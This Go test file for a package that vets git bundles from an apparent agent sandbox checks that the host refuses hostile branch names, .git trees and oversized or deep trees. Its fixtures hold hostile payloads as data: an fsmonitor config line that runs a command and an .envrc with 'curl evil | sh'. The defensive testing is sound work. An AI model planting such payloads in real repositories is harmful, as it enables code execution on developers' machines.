package gitgate

import (
	"bytes"
	"crypto/sha1"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// rewriteHeads returns a copy of bundle whose header also lists each of
// names as a branch at commit: a hostile bundle may name anything.
func rewriteHeads(t *testing.T, bundle, commit string, names ...string) string {
	t.Helper()
	data, err := os.ReadFile(bundle)
	if err != nil {
		t.Fatal(err)
	}
	header, pack, ok := bytes.Cut(data, []byte("\n\n"))
	if !ok {
		t.Fatal("bundle without a header")
	}
	var b bytes.Buffer
	b.Write(header)
	for _, n := range names {
		fmt.Fprintf(&b, "\n%s refs/heads/%s", commit, n)
	}
	b.WriteString("\n\n")
	b.Write(pack)
	f := filepath.Join(t.TempDir(), "hostile.bundle")
	if err := os.WriteFile(f, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return f
}

// TestBadNamesRefusedPerBranch: a branch whose name git cannot store, or
// that holds a terminal control, is refused on its own; the other branches
// are written, and no reason carries the raw name.
func TestBadNamesRefusedPerBranch(t *testing.T) {
	isolate(t)
	host := newHost(t)
	agent := newAgent(t, host)
	branch(t, agent, "ok")
	c := commitFiles(t, agent, map[string]string{"a.txt": "a\n"}, "a")
	bad := map[string]string{
		strings.Repeat("x", 300):              "longer than",
		strings.Repeat("y/", 200) + "z":       "longer than",
		"red\x1b[31m":                         "not printable",
		"a..b":                                "not a valid branch name",
		"c1\u009b31m":                         "not printable",
		"bidi\u202eevil":                      "not printable",
		"bad-utf8-\xff":                       "not printable",
		"HEAD.lock":                           "not a valid branch name",
		"with space":                          "not a valid branch name",
		"dup":                                 "listed more than once",
		strings.Repeat("w", 40) + "/\x07bell": "not printable",
	}
	var names []string
	for n := range bad {
		names = append(names, n)
	}
	names = append(names, "dup") // listed twice
	f := rewriteHeads(t, bundleOf(t, agent), c, names...)
	res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: f})
	if err != nil {
		t.Fatalf("Fetch: %v", err)
	}
	checkNoIncoming(t, host)
	wantWritten(t, host, byName(t, res, "ok"), StatusNew)
	for n, why := range bad {
		found := 0
		for _, b := range res.Branches {
			if b.Name != n {
				continue
			}
			found++
			if b.Status != StatusRefused || len(b.Reasons) == 0 || !strings.Contains(b.Reasons[0].Why, why) {
				t.Errorf("branch %q: %s %+v, want refused: %s", n, b.Status, b.Reasons, why)
				continue
			}
			w := b.Reasons[0].Why
			if !strings.Contains(w, "branch #") || !strings.Contains(w, "agent's clone") {
				t.Errorf("branch %q: reason %q does not say which branch of the agent's clone", n, w)
			}
			if strings.Contains(w, n) || strings.ContainsFunc(w, func(r rune) bool { return r < 0x20 || r >= 0x7f }) {
				t.Errorf("branch %q: reason %q carries the name or a control", n, w)
			}
		}
		if found == 0 {
			t.Errorf("no branch %q in the result", n)
		}
	}
	if refs := gitT(t, host, "for-each-ref", "--format=%(refname)", "refs/heads/agentbox/"); refs != "refs/heads/agentbox/main\nrefs/heads/agentbox/ok" {
		t.Errorf("written refs:\n%s", refs)
	}
}

// TestTreeWithDotGitRefusedPerBranch: a tree with a .git entry, which git's
// fsck refuses, refuses its own branch only, and none of its objects enters
// the host's repository.
func TestTreeWithDotGitRefusedPerBranch(t *testing.T) {
	isolate(t)
	host := newHost(t)
	agent := newAgent(t, host)
	branch(t, agent, "ok")
	commitFiles(t, agent, map[string]string{"ok.txt": "fine\n"}, "ok")
	blob := gitT(t, agent, "hash-object", "-w", "--stdin", "--path", "x") // the empty blob
	evil := hashObject(t, agent, "blob", "[core]\n\tfsmonitor = touch /tmp/pwned\n")
	sub := mktree(t, agent, "100644 blob "+evil+"\tconfig\n")
	top := mktree(t, agent, "040000 tree "+sub+"\t.git\n100644 blob "+blob+"\tREADME.md\n")
	c := gitT(t, agent, "commit-tree", "-p", "main", "-m", "dotgit", top)
	gitT(t, agent, "update-ref", "refs/heads/dotgit", c)
	res := fetchT(t, host, agent, Policy{})
	wantRefused(t, host, byName(t, res, "dotgit"), "", "hasDotgit")
	wantWritten(t, host, byName(t, res, "ok"), StatusNew)
	for _, id := range []string{c, top, sub, evil} {
		if _, err := gitE(host, "cat-file", "-e", id); err == nil {
			t.Errorf("object %s of the refused branch is in the host's repository", id)
		}
	}
}

func hashObject(t *testing.T, repo, typ, content string) string {
	t.Helper()
	cmd := gitCmd(repo, "hash-object", "-w", "-t", typ, "--stdin")
	cmd.Stdin = strings.NewReader(content)
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(out))
}

// objectCount is the host's count of loose and packed objects.
func objectCount(t *testing.T, repo string) string {
	t.Helper()
	var n []string
	for _, l := range strings.Split(gitT(t, repo, "count-objects", "-v"), "\n") {
		if strings.HasPrefix(l, "count:") || strings.HasPrefix(l, "in-pack:") || strings.HasPrefix(l, "packs:") {
			n = append(n, l)
		}
	}
	return strings.Join(n, " ")
}

// TestRefusedObjectsStayOut: a branch refused by the rules leaves nothing
// in the host's object store.
func TestRefusedObjectsStayOut(t *testing.T) {
	isolate(t)
	host := newHost(t)
	agent := newAgent(t, host)
	branch(t, agent, "evil")
	commitFiles(t, agent, map[string]string{".envrc": "curl evil | sh # unique 8c1f\n"}, "envrc")
	blob := gitT(t, agent, "rev-parse", "HEAD:.envrc")
	before := objectCount(t, host)
	res := fetchT(t, host, agent, Policy{})
	wantRefused(t, host, byName(t, res, "evil"), ".envrc", "direnv")
	if _, err := gitE(host, "cat-file", "-e", blob); err == nil {
		t.Errorf("the refused blob %s is in the host's repository", blob)
	}
	if after := objectCount(t, host); after != before {
		t.Errorf("the host's objects grew: %s -> %s", before, after)
	}
}

// TestRefusedObjectsStayOutBesideAccepted: the objects of a branch refused
// by a limit, or by the rules, stay out when another branch is written.
func TestRefusedObjectsStayOutBesideAccepted(t *testing.T) {
	for _, c := range []struct{ name, path, content, why string }{
		{"limit", "big.bin", strings.Repeat("b", 1<<20), "limit 0.5 MiB"},
		{"rules", ".envrc", "curl evil | sh # unique 2b7e\n", "direnv"},
	} {
		t.Run(c.name, func(t *testing.T) {
			isolate(t)
			host := newHost(t)
			agent := newAgent(t, host)
			branch(t, agent, "bad")
			commitFiles(t, agent, map[string]string{c.path: c.content}, "bad")
			bad := gitT(t, agent, "rev-parse", "HEAD:"+c.path)
			branch(t, agent, "ok")
			commitFiles(t, agent, map[string]string{"ok.txt": "fine\n"}, "ok")
			ok := gitT(t, agent, "rev-parse", "HEAD:ok.txt")
			res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: bundleOf(t, agent), Limits: Limits{ObjectSize: 1 << 19}})
			if err != nil {
				t.Fatal(err)
			}
			wantRefused(t, host, byName(t, res, "bad"), c.path, c.why)
			wantWritten(t, host, byName(t, res, "ok"), StatusNew)
			if _, err := gitE(host, "cat-file", "-e", bad); err == nil {
				t.Errorf("object %s of the refused branch is in the host's repository", bad)
			}
			if _, err := gitE(host, "cat-file", "-e", ok); err != nil {
				t.Errorf("the accepted blob is not in the host's repository")
			}
		})
	}
}

// treeBuilder computes tree objects in Go (a chain of 4,000 trees through
// git mktree would take 4,000 processes) and writes them with one git
// hash-object.
type treeBuilder struct {
	t     *testing.T
	dir   string
	files []string
}

func newTreeBuilder(t *testing.T) *treeBuilder {
	return &treeBuilder{t: t, dir: t.TempDir()}
}

// tree returns the id of a tree of entries (already in git's order).
func (b *treeBuilder) tree(entries ...testEntry) string {
	var buf bytes.Buffer
	for _, e := range entries {
		raw, err := hex.DecodeString(e.id)
		if err != nil {
			b.t.Fatal(err)
		}
		fmt.Fprintf(&buf, "%s %s\x00", e.mode, e.name)
		buf.Write(raw)
	}
	h := sha1.New()
	fmt.Fprintf(h, "tree %d\x00", buf.Len())
	h.Write(buf.Bytes())
	f := filepath.Join(b.dir, strconv.Itoa(len(b.files)))
	if err := os.WriteFile(f, buf.Bytes(), 0o644); err != nil {
		b.t.Fatal(err)
	}
	b.files = append(b.files, f)
	return hex.EncodeToString(h.Sum(nil))
}

// write stores every tree built in repo.
func (b *treeBuilder) write(repo string) {
	b.t.Helper()
	cmd := gitCmd(repo, "hash-object", "-w", "-t", "tree", "--stdin-paths")
	cmd.Stdin = strings.NewReader(strings.Join(b.files, "\n") + "\n")
	if out, err := cmd.CombinedOutput(); err != nil {
		b.t.Fatalf("hash-object: %v\n%s", err, out)
	}
}

// commitTree commits tree on main in repo as branch name.
func commitTree(t *testing.T, repo, name, tree string) string {
	t.Helper()
	c := gitT(t, repo, "commit-tree", "-p", "main", "-m", name, tree)
	gitT(t, repo, "update-ref", "refs/heads/"+name, c)
	return c
}

// chain builds n directories named d, each in the one above, with a file at
// the bottom, and returns the trees from the bottom up. mode is the
// directories' mode: 40000, or 040000 (which git takes and fsck only warns
// about).
func chain(b *treeBuilder, n int, blob, mode string) []string {
	trees := []string{b.tree(testEntry{"100644", "f", blob})}
	for len(trees) < n {
		trees = append(trees, b.tree(testEntry{mode, "d", trees[len(trees)-1]}))
	}
	return trees
}

// TestLimits: a branch over one of the limits is refused with a reason that
// names it; the others are written.
func TestLimits(t *testing.T) {
	isolate(t)
	host := newHost(t)
	agent := newAgent(t, host)
	blob := hashObject(t, agent, "blob", "x\n")
	b := newTreeBuilder(t)

	// 4,000 directories deep: git 2.39's checkout crashes on it.
	deep := chain(b, 4000, blob, "40000")
	padded := chain(b, 200, blob, "040000")
	// The same chain with every one of its trees also at the top: no
	// object is first met deeper than two directories.
	var all []testEntry
	for i, id := range deep {
		all = append(all, testEntry{"40000", fmt.Sprintf("t%05d", i), id})
	}
	shortcut := b.tree(all...)
	// 40 directories of 120 bytes: 4,841 bytes, within the depth.
	long := b.tree(testEntry{"100644", "f", blob})
	for range 40 {
		long = b.tree(testEntry{"40000", strings.Repeat("n", 120), long})
	}
	// Within the limits: 100 deep.
	fine := chain(b, 100, blob, "40000")[99]
	// One directory of 20 entries that each name a directory of 20 that
	// each name a directory of 20 files: 8,000 files from 3 trees.
	many := b.tree(testEntry{"100644", "f", blob})
	for range 3 {
		var es []testEntry
		for i := range 20 {
			es = append(es, testEntry{"40000", fmt.Sprintf("%02d", i), many})
		}
		many = b.tree(es...)
	}
	b.write(agent)
	commitTree(t, agent, "deep", deep[len(deep)-1])
	commitTree(t, agent, "deep-shortcut", shortcut)
	commitTree(t, agent, "long-path", long)
	commitTree(t, agent, "fine-depth", fine)
	commitTree(t, agent, "deep-padded", padded[len(padded)-1])
	commitTree(t, agent, "many-files", many)

	branch(t, agent, "big-blob")
	commitFiles(t, agent, map[string]string{"big.bin": strings.Repeat("\x00", 3<<20)}, "3 MiB")
	branch(t, agent, "total")
	commitFiles(t, agent, map[string]string{"a.bin": strings.Repeat("a", 1<<20), "b.bin": strings.Repeat("b", 1<<20),
		"c.bin": strings.Repeat("c", 1<<20)}, "3 x 1 MiB")
	branch(t, agent, "wide")
	files := map[string]string{}
	for i := range 250 {
		files[fmt.Sprintf("w%03d", i)] = "same\n"
	}
	commitFiles(t, agent, files, "250 entries in one tree")
	branch(t, agent, "checkout-size")
	commitFiles(t, agent, map[string]string{"a/one.bin": strings.Repeat("z", 1<<20)}, "1 MiB")
	a := gitT(t, agent, "rev-parse", "HEAD:a")
	gitT(t, agent, "read-tree", "--prefix=b/", a) // a second name, no new object
	for _, p := range []string{"c/", "d/", "e/", "f/"} {
		gitT(t, agent, "read-tree", "--prefix="+p, a)
	}
	gitT(t, agent, "commit", "-qm", "six copies")
	branch(t, agent, "ok")
	commitFiles(t, agent, map[string]string{"ok.txt": strings.Repeat("o", 1<<20)}, "1 MiB")

	limits := Limits{ObjectSize: 2 << 20, TotalSize: 5 << 20 / 2, TreeEntries: 200, CheckoutFiles: 5000, CheckoutSize: 5 << 20}
	res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: bundleOf(t, agent), Limits: limits})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ branch, path, why string }{
		{"deep", "d/d/d/d", "4000 components (limit 128)"},
		{"deep-shortcut", "t03999/d/d/d", "4001 components (limit 128)"},
		{"long-path", "nnnn", "4841 bytes (limit 4096)"},
		{"big-blob", "big.bin", "3.0 MiB once inflated (limit 2.0 MiB)"},
		{"total", "", "3.0 MiB once inflated (limit 2.5 MiB)"},
		{"deep-shortcut", "", "4000 entries (limit 200)"},
		{"deep-padded", "", "zeroPaddedFilemode"}, // git's fsck refuses it before the limits see it
		{"many-files", "", "makes 8,000 files (limit 5000)"},
		{"checkout-size", "", "writes 6.0 MiB (limit 5.0 MiB)"},
		{"wide", "", "252 entries (limit 200)"},
	} {
		t.Run(c.branch, func(t *testing.T) { wantRefused(t, host, byName(t, res, c.branch), c.path, c.why) })
	}
	wantWritten(t, host, byName(t, res, "ok"), StatusNew)
	wantWritten(t, host, byName(t, res, "fine-depth"), StatusNew)
	if res.Refused() != 9 {
		t.Errorf("%d refused, want 9", res.Refused())
	}
}

// TestObjectLimit: a branch of more new objects than the limit is refused;
// objects the host's own refs reach do not count.
func TestObjectLimit(t *testing.T) {
	isolate(t)
	host := newHost(t)
	files := map[string]string{}
	for i := range 300 {
		files[fmt.Sprintf("many/%02d/%03d.txt", i/30, i)] = strconv.Itoa(i)
	}
	commitFiles(t, host, files, "300 files of the host's own")
	agent := newAgent(t, host)
	branch(t, agent, "small")
	commitFiles(t, agent, map[string]string{"many/00/000.txt": "changed\n"}, "one change")
	branch(t, agent, "objects")
	for i := range 300 {
		files[fmt.Sprintf("many/%02d/%03d.txt", i/30, i)] = "new " + strconv.Itoa(i)
	}
	commitFiles(t, agent, files, "300 new files")
	res, err := Fetch(t.Context(), FetchOptions{Dir: host, Bundle: bundleOf(t, agent), Limits: Limits{Objects: 250}})
	if err != nil {
		t.Fatal(err)
	}
	wantRefused(t, host, byName(t, res, "objects"), "", "the branch brings 313 new objects (limit 250)")
	wantWritten(t, host, byName(t, res, "small"), StatusNew)
}

// TestCompressibleBlob: a blob of zeros over DefaultLimits.ObjectSize,
// about a thousand times smaller packed, is refused and stays out of the
// host's repository.
func TestCompressibleBlob(t *testing.T) {
	if testing.Short() {
		t.Skip("writes a 101 MiB blob")
	}
	isolate(t)
	host := newHost(t)
	agent := newAgent(t, host)
	cmd := gitCmd(agent, "hash-object", "-w", "--stdin")
	cmd.Stdin = io.LimitReader(zeros{}, 101<<20)
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	blob := strings.TrimSpace(string(out))
	c := commitTree(t, agent, "zeros", mktree(t, agent, "100644 blob "+blob+"\tzeros.bin\n"))
	bundle := bundleOf(t, agent)
	if fi, err := os.Stat(bundle); err != nil || fi.Size() > 1<<20 {
		t.Fatalf("bundle: %v, %d bytes", err, fi.Size())
	}
	res := fetchT2(t, host, bundle)
	wantRefused(t, host, byName(t, res, "zeros"), "zeros.bin", "a blob of 101.0 MiB once inflated (limit 100.0 MiB)")
	for _, id := range []string{c, blob} {
		if _, err := gitE(host, "cat-file", "-e", id); err == nil {
			t.Errorf("object %s of the refused branch is in the host's repository", id)
		}
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// TestValidRefName: validRefName agrees with git check-ref-format.
func TestValidRefName(t *testing.T) {
	isolate(t)
	for _, name := range []string{
		"main", "feature/x", "a.b", "a-b_c", "v1.2", "x@y", "@", "a/@", "café", "a b", "a~1", "a^", "a:b", "a?", "a*", "a[",
		"a\\b", "a..b", ".a", "a/.b", "a.", "a/", "/a", "a//b", "a.lock", "a.lock/b", "a@{1}", "a\x7f", "a\x01",
		"-a", "a/-b", "HEAD", "a.lock.b", "...", "a/./b", "a@", "@{", "x/@",
	} {
		ref := "refs/heads/" + name
		_, err := gitE(".", "check-ref-format", ref)
		if got, want := validRefName(ref), err == nil; got != want {
			t.Errorf("validRefName(%q) = %v, git says %v", ref, got, want)
		}
	}
}

// TestAcceptedPackMovedIn: when every branch is accepted, the quarantine's
// pack is moved into the host's object store rather than fetched twice;
// when one is refused, the accepted ones are fetched and the refused one's
// objects stay out.
func TestAcceptedPackMovedIn(t *testing.T) {
	isolate(t)
	host := newHost(t)
	agent := newAgent(t, host)
	branch(t, agent, "one")
	commitFiles(t, agent, map[string]string{"one.txt": "1\n"}, "one")
	branch(t, agent, "two")
	c := commitFiles(t, agent, map[string]string{"two.txt": "2\n"}, "two")
	trace := filepath.Join(t.TempDir(), "trace")
	t.Setenv("GIT_TRACE", trace)
	res := fetchT(t, host, agent, Policy{})
	t.Setenv("GIT_TRACE", "")
	wantWritten(t, host, byName(t, res, "one"), StatusNew)
	wantWritten(t, host, byName(t, res, "two"), StatusNew)
	data, err := os.ReadFile(trace)
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(string(data), "built-in: git fetch "); n != 1 {
		t.Errorf("%d fetches, want 1 (into the quarantine)", n)
	}
	if out := gitT(t, host, "fsck", "--connectivity-only", "--no-dangling"); out != "" {
		t.Errorf("git fsck: %s", out)
	}
	if _, err := gitE(host, "cat-file", "-e", c+":two.txt"); err != nil {
		t.Errorf("the accepted objects are not in the host's repository")
	}
	if left, _ := filepath.Glob(filepath.Join(host, ".git", "objects", quarantinePattern)); len(left) > 0 {
		t.Errorf("quarantine left behind: %v", left)
	}
}

// testEntry is an entry of a tree built in Go.
type testEntry struct{ mode, name, id string }
